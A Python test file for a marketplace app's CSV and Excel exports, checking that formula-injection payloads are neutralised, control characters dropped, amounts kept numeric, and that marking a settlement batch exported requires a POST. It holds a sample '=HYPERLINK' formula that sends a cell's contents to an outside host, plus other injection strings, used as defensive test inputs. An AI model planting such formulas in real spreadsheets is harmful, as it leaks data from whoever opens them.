"""Exports carry no formulas and no characters openpyxl refuses; amounts are numbers; a download
changes nothing (marking a settlement batch exported is a POST)."""
import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from marketplace.audit import exports
from marketplace.audit.models import AuditEntry
from marketplace.extensions import db
from marketplace.redemption import services, settlement
from marketplace.redemption.services import Claim
from tests.redemption.conftest import complete_order, evidence, program  # noqa: F401
from tests.orders.conftest import buyer, funded_buyer, listing, seller  # noqa: F401
from tests.catalog.conftest import make_listing, make_provider  # noqa: F401

HYPERLINK = '=HYPERLINK("http://x/?d="&C2,"Open")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_cells_are_neutralised_in_csv_and_xlsx(text):
    data = exports.csv_bytes(["memo"], [[text]])
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1][0] == "'" + text
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(["memo"], [[text]]))).active
    assert sheet.cell(2, 1).data_type == "s" and sheet.cell(2, 1).value.startswith("'")


def test_characters_openpyxl_refuses_are_dropped_and_amounts_stay_numbers():
    rows = [["a\x00b\x1bc", Decimal("12345.60"), 7]]
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(["memo", "yuan", "count"], rows))).active
    assert sheet.cell(2, 1).value == "abc"
    assert sheet.cell(2, 2).value == 12345.6 and sheet.cell(2, 2).number_format == exports.YUAN_FORMAT
    assert sheet.cell(2, 3).value == 7
    parsed = list(csv.reader(io.StringIO(exports.csv_bytes(["m", "y", "c"], rows).decode("utf-8-sig"))))
    assert parsed[1] == ["abc", "12345.60", "7"]


@pytest.fixture
def batch(complete_order, seller, program, admin):
    order = complete_order()
    request = services.submit(seller, program.id, [Claim(order.id, HYPERLINK[:40])], [evidence()])
    services.review(request.id, admin, "first_approve")
    services.review(request.id, admin, "final_approve")
    batch = settlement.create_batch(admin, [request.id])
    db.session.commit()
    return batch


def test_settlement_export_has_no_live_formula_and_amounts_in_yuan(client, auth, admin, batch):
    auth.login(admin)
    book = load_workbook(io.BytesIO(client.get(f"/admin/settlements/{batch.id}/export.xlsx").data))
    invoice, amount = book.active.cell(2, 7), book.active.cell(2, 8)
    assert invoice.data_type == "s" and invoice.value.startswith("'=")
    assert isinstance(amount.value, (int, float)) and amount.number_format == exports.YUAN_FORMAT
    rows = list(csv.reader(io.StringIO(client.get(f"/admin/settlements/{batch.id}/export.csv").data.decode("utf-8-sig"))))
    assert rows[1][6].startswith("'=") and rows[1][7].count(".") == 1 and len(rows[1][7].split(".")[1]) == 2


def test_a_settlement_download_changes_nothing_marking_it_exported_is_a_post(client, auth, admin, batch):
    auth.login(admin)
    assert client.get(f"/admin/settlements/{batch.id}/export.csv").status_code == 200
    db.session.expire_all()
    assert batch.status == "open" and batch.exported_at is None
    page = client.get(f"/admin/settlements/{batch.id}").get_data(as_text=True)
    assert f"/admin/settlements/{batch.id}/exported" in page and "data-confirm" in page
    assert client.post(f"/admin/settlements/{batch.id}/exported", data={}).status_code == 302
    db.session.expire_all()
    assert batch.status == "exported" and batch.exported_at is not None
    assert db.session.scalar(select(AuditEntry.action).where(AuditEntry.action == "settlement.export"))
